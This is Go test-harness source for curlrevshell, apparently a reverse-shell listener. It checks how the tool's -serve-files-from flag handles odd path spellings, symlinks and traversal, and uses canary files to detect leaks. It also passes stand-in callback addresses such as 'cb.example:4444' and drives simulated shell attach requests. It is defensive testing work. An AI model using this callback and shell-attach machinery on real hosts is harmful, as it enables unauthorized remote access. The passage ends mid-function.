		r.Inconclusive(fmt.Sprintf("the clients of live server %d made no progress within %s", li, 3*hk.Bound))
	}
	var sizes []int
	for _, v := range ls.vers {
		sizes = append(sizes, len(v.s))
		r.Count("live_versions", 1)
		r.Count("live_version_bytes", int64(len(v.s)))
	}
	sort.Ints(sizes)
	r.Sample("live-versions", map[string]any{"server": li, "root_kind": k.name, "sizes_sorted": sizes})
}

// liveGoneFloors: a run in which a dimension of the two engines was not
// exercised is inconclusive. The counts mirror runGone / runLive.
func liveGoneFloors(r *mon.Run, nLive, nGone int) {
	nw := r.N(6, 16)
	g, w := int64(nGone), int64(nGone*nw)
	r.Floor("gone_servers", g)
	for _, k := range goneKinds {
		r.Floor("gone_servers:"+k.name, g/int64(len(goneKinds)))
		r.Floor("gone_handler_runs_checked_of:"+k.name, g/int64(len(goneKinds))*int64(nw)*4)
	}
	r.Floor("gone_waves", w)
	r.Floor("gone_waves_with_stalled_terminal", w/2)
	r.Floor("gone_stalled_waves_queue_depth:1", 1)
	r.Floor("gone_stalled_waves_queue_depth:1024", 1)
	r.Floor("gone_queue_filler_lines", 1024)
	r.Floor("gone_requests", w*10)
	r.Floor("gone_requests:close", w/2)
	r.Floor("gone_requests:reset", w/2)
	r.Floor("gone_handler_runs_checked", w*5)
	r.Floor("gone_handler_runs_checked:half-close", w)
	r.Floor("gone_handler_runs_checked:fin-without-notify", w/3)
	r.Floor("gone_handler_runs_checked:second-then-half-close", w/3)
	r.Floor("gone_handler_runs_checked:stay", w/3)
	r.Floor("gone_handler_runs_checked_client_gone", w*3)
	r.Floor("gone_handler_runs_checked_client_gone_terminal_stalled", w/2*3)

	per, nsteps, nrep := int64(r.N(3, 6)), int64(r.N(5, 12)), int64(r.N(4, 10))
	l := int64(nLive)
	r.Floor("live_servers", l)
	for _, k := range []string{"file", "symlink-to-file", "symlink-chain-to-file", "dir", "symlink-to-dir"} {
		n := l / int64(len(liveKinds))
		if k == "file" {
			n *= 2
		}
		r.Floor("live_servers:"+k, n)
		r.Floor("live_answers_exact_of:"+k, n*30)
	}
	r.Floor("live_parallel_client_groups", l)
	r.Floor("live_parallel_clients", l*6)
	r.Floor("live_requests:parallel-clients", l*6*per)
	r.Floor("live_answers_exact:parallel-clients", l*4*per)
	r.Floor("live_replacements", l*(nsteps+nrep))
	r.Floor("live_answers_exact:between-replacements", l*nsteps*2)
	r.Floor("live_answers_exact:during-replacements", l*nrep*5)
	r.Floor("live_answers_exact_overlapping_a_replacement", l*2)
	for _, m := range []string{"rename-over", "truncate-rewrite", "delete-recreate"} {
		r.Floor("live_replacements:"+m, l)
		r.Floor("live_answers_exact_after:"+m, l*2)
	}
	r.Floor("live_replacements:link-retarget", l/2)
	r.Floor("live_answers_exact_after:link-retarget", l)
	r.Floor("live_full_bodies_exact", l*20)
	r.Floor("live_full_bodies_exact_over_1MiB", l)
	r.Floor("live_full_body_bytes_compared", l*4<<20)
	r.Floor("live_ranges_exact", l*8)
	r.Floor("live_head_answers", l)
	r.Floor("live_answers_exact_on_kept_connections", l*10)
}

package c09

// FLAG: the real binary, started in a private HOME (= its working directory),
// over the SHAPES a value of -serve-files-from can take on the command line
// and over the program's other documented options.  The other engines hand the
// path to hsrv.New themselves; here it travels through main's flag handling.

import (
	"bufio"
	"bytes"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// ---- value shapes -----------------------------------------------------------------

// flagShape: how the value(s) of -serve-files-from are written.  val is the
// FINAL value (the one that counts: the flag package keeps the last one),
// earlier the values given before it; place is where the thing really lies when
// the value reaches it through symbolic links (relative to HOME, "" = the value
// itself); links are made before the program starts (name -> target, both
// relative to HOME).  modes: b = a directory or a single file, d = directory
// only, u = effectively unset.
type flagShape struct {
	name  string
	modes string
	make  func(tok string, single bool) flagVal
}

type flagVal struct {
	given   bool
	val     string
	earlier []string
	place   string
	links   [][2]string
	onlyEq  bool // the value must be attached with '=' (never: kept for witnesses)
}

func fv(v string) flagVal { return flagVal{given: true, val: v} }

func ext(single bool) string {
	if single {
		return ".txt"
	}
	return ""
}

var flagShapes = []flagShape{
	{"unset", "u", func(tok string, single bool) flagVal { return flagVal{} }},
	{"empty", "u", func(tok string, single bool) flagVal { return fv("") }},
	{"twice-then-empty", "u", func(tok string, single bool) flagVal {
		return flagVal{given: true, val: "", earlier: []string{"first" + tok}}
	}},
	{"dot", "d", func(tok string, single bool) flagVal { return fv(".") }},
	{"dot-slash", "b", func(tok string, single bool) flagVal { return fv("./x" + tok + ext(single)) }},
	{"trailing-slash", "d", func(tok string, single bool) flagVal { return fv("x" + tok + "/") }},
	{"parent", "b", func(tok string, single bool) flagVal { return fv("../y" + tok + ext(single)) }},
	{"absolute", "b", func(tok string, single bool) flagVal { return fv("\x00ABS/abs" + tok + ext(single)) }},
	{"absolute-trailing-space", "b", func(tok string, single bool) flagVal { return fv("\x00ABS/abs" + tok + ext(single) + " ") }},
	{"leading-space", "b", func(tok string, single bool) flagVal { return fv(" lead" + tok + ext(single)) }},
	{"trailing-space", "b", func(tok string, single bool) flagVal { return fv("pub" + tok + ext(single) + " ") }},
	{"both-spaces", "b", func(tok string, single bool) flagVal { return fv("  both" + tok + ext(single) + "  ") }},
	{"inner-space", "b", func(tok string, single bool) flagVal { return fv("in ner " + tok + ext(single)) }},
	{"only-space", "b", func(tok string, single bool) flagVal { return fv(" ") }},
	{"leading-tab", "b", func(tok string, single bool) flagVal { return fv("\ttab" + tok + ext(single)) }},
	{"trailing-tab", "b", func(tok string, single bool) flagVal { return fv("tab" + tok + ext(single) + "\t") }},
	{"trailing-newline", "b", func(tok string, single bool) flagVal { return fv("nl" + tok + ext(single) + "\n") }},
	{"leading-newline", "b", func(tok string, single bool) flagVal { return fv("\r\nnl" + tok + ext(single)) }},
	{"leading-equals", "b", func(tok string, single bool) flagVal { return fv("=eq" + tok + ext(single)) }},
	{"inner-equals", "b", func(tok string, single bool) flagVal { return fv("k" + tok + "=v" + ext(single)) }},
	{"comma", "b", func(tok string, single bool) flagVal { return fv("a" + tok + ",b" + tok + ext(single)) }},
	{"leading-comma", "b", func(tok string, single bool) flagVal { return fv(",c" + tok + ext(single)) }},
	{"percent", "b", func(tok string, single bool) flagVal { return fv("%41pct" + tok + "%20" + ext(single)) }},
	{"tilde", "d", func(tok string, single bool) flagVal { return fv("~") }},
	{"tilde-slash", "b", func(tok string, single bool) flagVal { return fv("~/t" + tok + ext(single)) }},
	{"leading-dash", "b", func(tok string, single bool) flagVal { return fv("-dash" + tok + ext(single)) }},
	{"double-dash", "b", func(tok string, single bool) flagVal { return fv("--" + tok + ext(single)) }},
	{"unicode", "b", func(tok string, single bool) flagVal { return fv("ünï dïr 日本 " + tok + ext(single)) }},
	{"unicode-space", "b", func(tok string, single bool) flagVal { return fv(" nb" + tok + ext(single) + "　") }},
	{"trailing-dot", "b", func(tok string, single bool) flagVal { return fv("dot" + tok + ext(single) + ".") }},
	{"upper-case", "b", func(tok string, single bool) flagVal { return fv("UP" + strings.ToUpper(tok) + ext(single)) }},
	{"double-slash", "b", func(tok string, single bool) flagVal {
		return flagVal{given: true, val: "s" + tok + "//in/./" + "leaf" + ext(single), place: "s" + tok + "/in/leaf" + ext(single)}
	}},
	{"dotdot-inside", "b", func(tok string, single bool) flagVal {
		return flagVal{given: true, val: "a" + tok + "/../r" + tok + ext(single), place: "r" + tok + ext(single), links: [][2]string{{"\x00DIR", "a" + tok}}}
	}},
	{"twice", "b", func(tok string, single bool) flagVal {
		return flagVal{given: true, val: "second" + tok + ext(single), earlier: []string{"first" + tok + ext(single)}}
	}},
	{"twice-empty-first", "b", func(tok string, single bool) flagVal {
		return flagVal{given: true, val: "second" + tok + ext(single), earlier: []string{""}}
	}},
	{"thrice-spaced", "b", func(tok string, single bool) flagVal {
		return flagVal{given: true, val: "third" + tok + ext(single) + " ", earlier: []string{"third" + tok + ext(single), " third" + tok + ext(single)}}
	}},
	{"symlink", "b", func(tok string, single bool) flagVal {
		return flagVal{given: true, val: "ln" + tok + ext(single), place: "real" + tok + "/deep/target" + ext(single), links: [][2]string{{"real" + tok + "/deep/target" + ext(single), "ln" + tok + ext(single)}}}
	}},
	{"symlink-trailing-space", "b", func(tok string, single bool) flagVal {
		return flagVal{given: true, val: "ln" + tok + ext(single) + " ", place: "real" + tok + "/deep/target" + ext(single), links: [][2]string{{"real" + tok + "/deep/target" + ext(single), "ln" + tok + ext(single) + " "}}}
	}},
	{"symlink-dotdot", "b", func(tok string, single bool) flagVal {
		// ln -> real/deep: the system resolves ln/../side to real/side, a lexical cleaning to ./side
		return flagVal{given: true, val: "ln" + tok + "/../side" + ext(single), place: "real" + tok + "/side" + ext(single), links: [][2]string{{"\x00DIR", "real" + tok + "/deep"}, {"real" + tok + "/deep", "ln" + tok}}}
	}},
	{"symlink-absolute", "b", func(tok string, single bool) flagVal {
		return flagVal{given: true, val: "\x00ABS/al" + tok + ext(single), place: "real" + tok + "/t" + ext(single), links: [][2]string{{"\x00HOME/real" + tok + "/t" + ext(single), "\x00ABS/al" + tok + ext(single)}}}
	}},
}

// ---- the configuration matrix -----------------------------------------------------

// flagOpt: one documented option of the program besides -serve-files-from.
// group: options of one group exclude each other.
type flagOpt struct {
	name, group string
	apply       func(c *flagCase)
}

func (c *flagCase) auxFile(name, content string) string {
	p := filepath.Join(c.aux, name)
	os.MkdirAll(filepath.Dir(p), 0o755)
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		panic(err)
	}
	return p
}

var flagOpts = []flagOpt{
	{"none", "none", func(c *flagCase) {}},
	{"one-shell", "one", func(c *flagCase) { c.args = append(c.args, c.dash()+"one-shell"); c.oneShell = true }},
	{"callback-address:one", "cb", func(c *flagCase) { c.args = append(c.args, c.dash()+"callback-address", "cb.example:4444") }},
	{"callback-address:dozens", "cb", func(c *flagCase) {
		for k := 0; k < 36; k++ {
			c.args = append(c.args, fmt.Sprintf("%scallback-address=h%d.example:%d", c.dash(), k, 4000+k))
		}
	}},
	{"callback-template:file", "tmpl", func(c *flagCase) {
		c.args = append(c.args, c.dash()+"callback-template", c.auxFile("tmpl.sh", hsrv.DefaultTemplate))
	}},
	{"callback-template:symlink", "tmpl", func(c *flagCase) {
		f := c.auxFile("tmpl-real.sh", hsrv.DefaultTemplate)
		ln := filepath.Join(c.aux, "tmpl-link.sh")
		os.Symlink(f, ln)
		c.args = append(c.args, c.dash()+"callback-template="+ln)
	}},
	{"callback-template:missing-at-start-up", "tmpl", func(c *flagCase) {
		// the file appears once the program listens (it is read anew for every request)
		c.lateTmpl = filepath.Join(c.aux, "late-template.sh")
		c.args = append(c.args, c.dash()+"callback-template", c.lateTmpl)
	}},
	{"ctrl-i:file", "ctrli", func(c *flagCase) {
		c.args = append(c.args, c.dash()+"ctrl-i", c.auxFile("funcs.sh", "f() { echo hi; }\n"))
	}},
	{"ctrl-i:directory", "ctrli", func(c *flagCase) {
		c.auxFile("funcs.d/a.sh", "a() { echo a; }\n")
		c.args = append(c.args, c.dash()+"ctrl-i", filepath.Join(c.aux, "funcs.d"))
	}},
	{"ctrl-i:missing", "ctrli", func(c *flagCase) {
		c.args = append(c.args, c.dash()+"ctrl-i="+filepath.Join(c.aux, "no-such-funcs"))
	}},
	{"ctrl-i:percent-and-spaces", "ctrli", func(c *flagCase) {
		c.args = append(c.args, c.dash()+"ctrl-i", c.auxFile(" 100%s fu ncs%d.sh ", "g() { echo g; }\n"))
	}},
	{"print-ctrl-i-is-false", "pci", func(c *flagCase) { c.args = append(c.args, c.dash()+"print-ctrl-i=false") }},
	{"tls-certificate-cache:explicit", "cert", func(c *flagCase) { c.cert = filepath.Join(c.aux, "cert.txtar") }},
	{"tls-certificate-cache:default", "cert", func(c *flagCase) {
		if c.homeIsTree {
			c.cert = filepath.Join(c.aux, "cert-instead-of-default.txtar") // the default lies below HOME, which is the served tree here
		} else {
			c.cert = "\x00default"
		}
	}},
	{"tls-certificate-cache:beside-the-root", "cert", func(c *flagCase) {
		if c.mode == "unset" || c.homeIsTree {
			c.cert = filepath.Join(c.caseDir, "cert-beside.txtar")
		} else {
			c.cert = filepath.Join(filepath.Dir(c.realRoot), "cert-beside.txtar")
		}
		c.keyCanary = true
	}},
	{"log:flag", "log", func(c *flagCase) { c.args = append(c.args, c.dash()+"log", filepath.Join(c.aux, "log.json")) }},
	{"log:environment", "log", func(c *flagCase) { c.env = append(c.env, "CURLREVSHELL_LOG="+filepath.Join(c.aux, "envlog.json")) }},
	{"no-timestamps", "nots", func(c *flagCase) { c.args = append(c.args, c.dash()+"no-timestamps") }},
	{"ipv6-one-liners", "v6", func(c *flagCase) { c.args = append(c.args, c.dash()+"ipv6-one-liners=true") }},
	{"listen-address:localhost", "addr", func(c *flagCase) { c.listen = "localhost:0" }},
	{"prompt", "prompt", func(c *flagCase) { c.args = append(c.args, c.dash()+"prompt", "op> ") }},
}

// ---- one case ---------------------------------------------------------------------

type flagCase struct {
	r          *mon.Run
	idx        int
	shape      flagShape
	v          flagVal
	mode       string // dir single unset
	spelling   int    // 0 "-f v"  1 "-f=v"  2 "--f v"  3 "--f=v"
	optA, optB flagOpt
	caseDir    string
	home       string
	aux        string
	abs        string
	realRoot   string // where the tree (or the single file) really lies
	homeIsTree bool
	args       []string
	env        []string
	cert       string
	listen     string
	oneShell   bool
	lateTmpl   string
	sess       *crs.Session
	lexical    bool // cleaning the value lexically names another place than the system resolves (a '..' after a symbolic link)
	closed     bool // -one-shell and a shell has attached: the listener is gone
	keyCanary  bool
	t          *tree
	decoys     []string // what was placed at the look-alike spellings
	leakNames  []string // unique names of canary files (requested by name)
	ndash      int
}

// dash alternates the two spellings of a flag's dashes.
func (c *flagCase) dash() string {
	c.ndash++
	if (c.ndash+c.idx)%2 == 0 {
		return "--"
	}
	return "-"
}

func (c *flagCase) expand(s string) string {
	s = strings.ReplaceAll(s, "\x00ABS", c.abs)
	return strings.ReplaceAll(s, "\x00HOME", c.home)
}

// at: the raw path a value names for a process whose working directory is HOME
// (no lexical cleaning: the system resolves it).
func (c *flagCase) at(v string) string {
	if strings.HasPrefix(v, "/") {
		return v
	}
	return c.home + "/" + v
}

func (c *flagCase) witness(w map[string]any) {
	w["flag_shape"] = c.shape.name
	w["flag_values_in_order"] = append(append([]string(nil), c.v.earlier...), c.v.val)
	w["flag_given"] = c.v.given
	w["program_arguments"] = c.args
	w["program_environment"] = c.env
	w["working_directory"] = c.home
	w["options"] = []string{c.optA.name, c.optB.name}
	w["tree_really_at"] = c.realRoot
	w["look_alikes_outside_the_tree"] = c.decoys
	w["lexical_cleaning_of_the_value_names_another_place"] = c.lexical
	if c.sess != nil {
		txt := c.sess.P.Clean()
		w["terminal_tail"] = txt[max(0, len(txt)-1500):]
	}
}

// within reports whether the nearest existing ancestor of p lies inside (or is) dir.
func within(p, dir string) bool {
	rd, err := filepath.EvalSymlinks(dir)
	if err != nil {
		return false
	}
	for q := p; ; q = filepath.Dir(q) {
		if rq, err := filepath.EvalSymlinks(q); err == nil {
			return rq == rd || strings.HasPrefix(rq, rd+"/")
		}
		if q == "/" || q == "." {
			return false
		}
	}
}

// mutations: the spellings a value might be mistaken for after trimming,
// cleaning, splitting, unescaping or expanding it.
func (c *flagCase) mutations(v string) []string {
	var out []string
	seen := map[string]bool{v: true}
	add := func(m string) {
		if !seen[m] && m != "" && !strings.ContainsRune(m, 0) {
			seen[m] = true
			out = append(out, m)
		}
	}
	ws := " \t\r\n\v\f 　"
	add(strings.TrimSpace(v))
	add(strings.TrimLeft(v, " "))
	add(strings.TrimRight(v, " "))
	add(strings.Trim(v, ws))
	add(strings.TrimRight(v, "\r\n"))
	if f := strings.Fields(v); len(f) > 0 {
		add(f[0])
		add(f[len(f)-1])
		add(strings.Join(f, ""))
		add(strings.Join(f, " "))
	}
	if v != "" {
		add(filepath.Clean(v))
		add(filepath.Base(v))
		add(v + " ")
		add(" " + v)
	}
	if i := strings.Index(v, ","); i >= 0 {
		add(v[:i])
		add(v[i+1:])
	}
	if i := strings.Index(v, "="); i >= 0 {
		add(v[:i])
		add(v[i+1:])
	}
	if u, err := url.PathUnescape(v); err == nil {
		add(u)
		add(strings.TrimSpace(u))
	}
	if v == "~" {
		// expands to HOME itself, which holds canaries of its own
	} else if strings.HasPrefix(v, "~/") {
		add(c.home + v[1:])
	}
	add(strings.TrimLeft(v, "-"))
	add(strings.ToLower(v))
	add(strings.ToUpper(v))
	add(strings.TrimRight(v, "/."))
	add(strings.TrimRight(strings.TrimSpace(v), "/"))
	return out
}

var flagDirFiles = []string{"inside.txt", "a b.txt", ".hidden", "sub/f.txt", "sub/deep/g.bin", "c", "io", "i/x", "o/x", "withindex/index.html", "withindex/other.txt", "100%.txt", "ünï.txt"}

// canaryAt places something outside the tree at raw path p: a directory with
// files named like the tree's (and one with a name of its own), or a file.
func (c *flagCase) canaryAt(rng *rand.Rand, p string, why string) {
	taken := func() bool {
		if _, err := os.Lstat(p); err == nil {
			return true // the tree itself, one of its ancestors, or an earlier look-alike
		}
		return c.realRoot != "" && within(p, c.realRoot)
	}
	if taken() {
		return
	}
	q := strings.TrimRight(p, "/")
	if os.MkdirAll(q[:strings.LastIndex(q, "/")], 0o755) != nil {
		return
	}
	// with the parents in place the path may turn out to lead into the tree ("new/../tree")
	if taken() {
		return
	}
	leak := fmt.Sprintf("leak%d-%d.txt", c.idx, len(c.decoys))
	if c.mode == "single" {
		if !c.tryCanary(rng, p) {
			return
		}
	} else {
		if os.Mkdir(q, 0o755) != nil {
			return
		}
		for _, n := range []string{"inside.txt", "index.html", "sub/f.txt", "c", "i/x", leak} {
			c.tryCanary(rng, q+"/"+n)
		}
		c.leakNames = append(c.leakNames, leak)
	}
	c.decoys = append(c.decoys, fmt.Sprintf("%q (%s)", p, why))
	c.r.Count("flag_look_alikes_placed", 1)
}

// tryCanary is tree.canaryFile for raw paths that the system may refuse.
func (c *flagCase) tryCanary(rng *rand.Rand, abs string) bool {
	t := c.t
	i := strings.LastIndex(abs, "/")
	if os.MkdirAll(abs[:i], 0o755) != nil {
		return false
	}
	if _, err := os.Lstat(abs); err == nil {
		return false // never write over something that is there
	}
	tok := newToken(rng, t.ntok+1)
	if err := os.WriteFile(abs, []byte(strings.Repeat("CANARY "+tok+"\n", 1+rng.IntN(20))), 0o644); err != nil {
		return false
	}
	t.ntok++
	t.canary = append(t.canary, tok)
	t.canaryL = append(t.canaryL, abs)
	t.canaryAt[abs] = true
	return true
}

// build lays out HOME, the tree, the links and the look-alikes.
func (c *flagCase) build() {
	r := c.r
	rng := r.Rng("flagtree", c.idx)
	c.caseDir = filepath.Join(r.Work, fmt.Sprintf("flag%03d", c.idx))
	c.home = filepath.Join(c.caseDir, "h")
	c.aux = filepath.Join(c.caseDir, "aux")
	c.abs = filepath.Join(c.caseDir, "elsewhere")
	for _, d := range []string{c.home, c.aux, c.abs} {
		os.MkdirAll(d, 0o755)
	}
	tok := fmt.Sprintf("%04x", rng.Uint32()&0xffff)
	c.v = c.shape.make(tok, c.mode == "single")
	c.v.val = c.expand(c.v.val)
	c.v.place = c.expand(c.v.place)
	for i := range c.v.earlier {
		c.v.earlier[i] = c.expand(c.v.earlier[i])
	}
	t := &tree{idx: 1000 + c.idx, files: map[string]string{}, tokens: map[string]string{}, dirs: map[string][]string{}, byBody: map[string]string{}, byList: map[string]string{}, canaryAt: map[string]bool{}}
	c.t = t
	t.caseDir = c.caseDir
	place := c.v.place
	if place == "" {
		place = c.v.val
	}
	switch c.mode {
	case "dir":
		// the tree really lies at a link-free, clean path
		c.realRoot = filepath.Clean(c.at(place))
		t.root = c.realRoot
		t.addDir("")
		names := append([]string(nil), flagDirFiles...)
		if c.idx%3 == 1 {
			names = append(names, "index.html")
		}
		for k := 0; k < 2; k++ {
			n := namePool[rng.IntN(len(namePool))]
			if n != "index.html" && n != "sub" && n != "i" && n != "o" && n != "c" && n != "io" && n != "withindex" {
				names = append(names, "rnd/"+n)
			}
		}
		for _, n := range names {
			if t.exists(n) {
				continue
			}
			// parents first
			parts := strings.Split(n, "/")
			for k := 1; k < len(parts); k++ {
				t.addDir(strings.Join(parts[:k], "/"))
			}
			t.addFile(rng, n)
		}
	case "single":
		c.realRoot = filepath.Clean(filepath.Dir(c.at(place))) + "/" + filepath.Base(c.at(place))
		if strings.HasSuffix(place, "/") || filepath.Base(c.at(place)) == "." {
			panic("flag shape " + c.shape.name + " cannot name a file")
		}
		t.root = filepath.Dir(c.realRoot)
		os.MkdirAll(t.root, 0o755)
		t.dirs[""] = []string{}
		t.addFile(rng, filepath.Base(c.realRoot))
		t.single = filepath.Base(c.realRoot)
	default:
		t.root = filepath.Join(c.caseDir, "no-tree")
	}
	c.homeIsTree = c.mode == "dir" && within(c.home, c.realRoot)
	for rel := range t.files {
		t.fileL = append(t.fileL, rel)
	}
	for rel, ents := range t.dirs {
		t.dirL = append(t.dirL, rel)
		t.byList[listKey(ents)] = rel
	}
	sort.Strings(t.fileL)
	sort.Strings(t.dirL)
	// links
	for _, l := range c.v.links {
		from, to := c.expand(l[0]), c.at(c.expand(l[1]))
		if l[0] == "\x00DIR" {
			os.MkdirAll(to, 0o755)
			continue
		}
		os.MkdirAll(filepath.Dir(to), 0o755)
		if err := os.Symlink(from, to); err != nil {
			panic(err)
		}
	}
	if c.v.given && c.v.val != "" {
		// the value, as the system resolves it, is the tree
		a, err1 := os.Stat(c.at(c.v.val))
		b, err2 := os.Stat(c.realRoot)
		if err1 != nil || err2 != nil || !os.SameFile(a, b) {
			panic(fmt.Sprintf("flag shape %s: the value %q does not lead to %q (%v %v)", c.shape.name, c.v.val, c.realRoot, err1, err2))
		}
	}
	// canaries in the working directory and above it
	if !c.homeIsTree {
		for _, n := range []string{"canary-cwd.txt", "inside.txt", "index.html", "sub/f.txt", "c", "io", "i/x", "o/x"} {
			if _, err := os.Lstat(c.home + "/" + n); err == nil {
				continue
			}
			if c.mode != "unset" && within(c.home+"/"+n, c.realRoot) {
				continue
			}
			if os.MkdirAll(filepath.Dir(c.home+"/"+n), 0o755) == nil {
				if fi, err := os.Stat(filepath.Dir(c.home + "/" + n)); err == nil && fi.IsDir() && !(c.mode != "unset" && within(c.home+"/"+n, c.realRoot)) {
					t.canaryFile(rng, c.home+"/"+n, "")
				}
			}
		}
	}
	for _, n := range []string{"canary-up.txt", "inside.txt"} {
		if _, err := os.Lstat(c.caseDir + "/" + n); err != nil {
			t.canaryFile(rng, c.caseDir+"/"+n, "")
		}
	}
	t.canaryFile(rng, c.abs+"/canary-abs.txt", "")
	// earlier values of a flag given more than once, and every look-alike spelling of every value
	for _, e := range c.v.earlier {
		if e != "" {
			c.canaryAt(rng, c.at(e), "an earlier value of the flag")
		}
	}
	for _, v := range append(append([]string(nil), c.v.earlier...), c.v.val) {
		if !c.v.given {
			break
		}
		for _, m := range c.mutations(v) {
			c.canaryAt(rng, c.at(m), fmt.Sprintf("look-alike %q of the value %q", m, v))
		}
	}
	if c.v.given && c.v.val != "" {
		a, err1 := os.Stat(filepath.Clean(c.at(c.v.val)))
		b, err2 := os.Stat(c.at(c.v.val))
		c.lexical = err1 != nil || err2 != nil || !os.SameFile(a, b)
		if c.lexical {
			c.r.Count("flag_values_whose_lexical_cleaning_names_another_place:"+c.mode, 1)
		}
	}
	if c.mode == "unset" {
		// nothing is to be served: ordinary neighbours that a default might pick up
		for _, m := range []string{"pub", "www", "files", "static"} {
			c.canaryAt(rng, c.at(m), "an ordinary directory in the working directory")
		}
	}
}

// command assembles the argument list.
func (c *flagCase) command() {
	c.listen = "127.0.0.1:0"
	c.cert = ""
	c.optA.apply(c)
	h := len(c.args) // the options are not torn apart: the flag under test may go between them
	if c.optB.group != c.optA.group {
		c.optB.apply(c)
	}
	var sf []string
	if c.v.given {
		for k, v := range append(append([]string(nil), c.v.earlier...), c.v.val) {
			d := "-"
			if (c.spelling+k)&2 != 0 {
				d = "--"
			}
			if (c.spelling+k)&1 != 0 {
				sf = append(sf, d+"serve-files-from="+v)
			} else {
				sf = append(sf, d+"serve-files-from", v)
			}
		}
	}
	pre := []string{"-listen-address", c.listen}
	if c.cert != "\x00default" {
		pre = append(pre, "-tls-certificate-cache", c.cert)
	}
	// the flag under test goes before, between or after the other options
	switch c.idx % 3 {
	case 0:
		c.args = append(append(pre, sf...), c.args...)
	case 1:
		c.args = append(append(pre, c.args...), sf...)
	default:
		a := append(append([]string(nil), c.args[:h]...), sf...)
		c.args = append(append(pre, a...), c.args[h:]...)
	}
}

// ---- the terminal as the operator channel -----------------------------------------

// binMark closes the notice window: a request for /c whose c2 parameter is a
// fresh tag is reported ("Sent script ... URL:<tag>") through the same queue
// as every notice before it.
func (sv *server) binMark() ([]string, bool) {
	end, ok := sv.binSync()
	if !ok && sv.fc.oneShell && sv.fc.closed {
		// -one-shell and a shell has been attached: if the listener has gone with it no marker can be
		// sent any more; the probe has waited for 'Shell is gone', what the terminal shows is the window
		sv.r.Count("flag_windows_closed_without_marker_after_one_shell", 1)
		txt := sv.b.P.Clean()
		lines := splitLines(txt[min(sv.pos, len(txt)):])
		sv.pos = len(txt)
		return lines, true
	}
	if !ok {
		return nil, false
	}
	txt := sv.b.P.Clean()
	lines := splitLines(txt[min(sv.pos, end[0], len(txt)):min(end[0], len(txt))])
	sv.pos = end[1]
	return lines, true
}

func splitLines(s string) []string {
	var lines []string
	for _, l := range strings.Split(s, "\n") {
		if l = strings.Trim(l, "\r "); l != "" {
			lines = append(lines, l)
		}
	}
	return lines
}

func (sv *server) binSync() ([]int, bool) {
	sv.nmark++
	tag := fmt.Sprintf("mk%dx%d", sv.si, sv.nmark)
	// the markers travel on one kept connection (a fresh one if the server has let it go)
	raw := []byte(fmt.Sprintf("GET /c?c2=%s HTTP/1.1\r\nHost: %s\r\n\r\n", tag, host))
	var res *hk.Response
	for try := 0; try < 2 && res == nil; try++ {
		if sv.mc == nil {
			c, err := hk.Dial(sv.b.Addr, "")
			if err != nil {
				break
			}
			sv.mc = c
		}
		sv.mc.SetDeadline(time.Now().Add(hk.Bound))
		if _, err := sv.mc.Write(raw); err == nil {
			if r, err := hk.ReadResponse(sv.mc.R, raw); err == nil && r != nil && r.Err == nil && r.Status != 0 {
				res = r
				break
			}
		}
		sv.mc.Close()
		sv.mc = nil
	}
	if res == nil || res.Status != 200 {
		sv.r.Count("flag_marker_requests_failed", 1)
		return nil, false
	}
	return sv.b.P.WaitFor(regexp.MustCompile(`[^\n]*Sent script: ID:\S+ URL:`+tag+`\b[^\n]*\n`), sv.pos, crs.Bound)
}

// binStream is stream() against the real binary: attach notices are read from
// the terminal, operator input is typed on it.
func (sv *server) binStream(g tgt, inf info, target string) hop {
	sv.nprb++
	var want, method, shape string
	out := fmt.Sprintf("OUT-%d-%d", sv.si, sv.nprb)
	in := fmt.Sprintf("IN-%d-%d", sv.si, sv.nprb)
	switch inf.shell {
	case "i":
		method, shape = "GET", "none"
		want = fmt.Sprintf("Input connected: ID %q", inf.shellID)
	case "o":
		method, shape = "POST", "cl"
		want = fmt.Sprintf("Output connected: ID %q", inf.shellID)
	default:
		method, shape = "POST", "chunked"
		want = "Shell is ready to go!"
	}
	raw := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: %s\r\n", method, target, host)
	switch shape {
	case "cl":
		raw += fmt.Sprintf("Content-Length: %d\r\nConnection: close\r\n\r\n%s\n", len(out)+1, out)
	case "chunked":
		raw += fmt.Sprintf("Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n%x\r\n%s\n\r\n", len(out)+1, out)
	default:
		raw += "Connection: close\r\n\r\n"
	}
	h := hop{Method: method, Target: target}
	c, err := hk.Dial(sv.b.Addr, "")
	if err != nil {
		h.Err = err.Error()
		return h
	}
	c.SetDeadline(time.Now().Add(3 * crs.Bound))
	if _, err := c.Write([]byte(raw)); err != nil {
		c.Close()
		h.Err = err.Error()
		return h
	}
	var mu sync.Mutex
	var buf []byte
	done := make(chan struct{})
	note := make(chan struct{}, 1)
	go func() {
		b := make([]byte, 8192)
		for {
			n, err := c.Read(b)
			mu.Lock()
			buf = append(buf, b[:n]...)
			mu.Unlock()
			select {
			case note <- struct{}{}:
			default:
			}
			if err != nil {
				close(done)
				return
			}
		}
	}()
	from := sv.pos
	wantRe := regexp.MustCompile(regexp.QuoteMeta(want))
	att := make(chan bool, 1)
	go func() {
		_, ok := sv.b.P.WaitFor(wantRe, from, 2*crs.Bound)
		att <- ok
	}()
	matched := false
	select {
	case matched = <-att:
	case <-done:
		// the response ended by itself; an attach notice may still be on its way to the terminal
		if end, ok := sv.binSync(); ok {
			txt := sv.b.P.Clean()
			matched = wantRe.MatchString(txt[min(from, len(txt)):min(end[0], len(txt))])
		} else if sv.fc.oneShell {
			matched = <-att // the listener may have gone with the shell: no marker can be sent
		}
	}
	if matched {
		h.Shell = inf.shell
		sv.fc.closed = sv.fc.oneShell
		ended := false
		select {
		case <-done:
			ended = true
		default:
		}
		if ended {
		} else if inf.shell == "i" || inf.shell == "io" {
			sv.b.Line(in)
			deadline := time.After(crs.Bound)
		wait:
			for {
				mu.Lock()
				ok := bytes.Contains(buf, []byte(in+"\n"))
				mu.Unlock()
				if ok {
					h.Echo = true
					break
				}
				select {
				case <-note:
				case <-done:
					mu.Lock()
					h.Echo = bytes.Contains(buf, []byte(in+"\n"))
					mu.Unlock()
					break wait
				case <-deadline:
					break wait
				}
			}
		} else {
			select {
			case <-done:
			case <-time.After(crs.Bound):
			}
		}
	}
